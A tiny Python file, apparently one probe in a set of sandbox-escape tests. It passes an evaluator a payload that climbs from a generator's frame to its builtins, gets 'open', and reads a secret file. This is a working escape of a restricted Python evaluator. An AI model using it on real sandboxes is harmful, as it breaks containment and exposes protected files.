"""P1: the builtins of a generator's frame."""


def attack(door):
    door.value(f"(x for x in [1]).gi_frame.f_builtins['open']({door.secret!r}).read()")
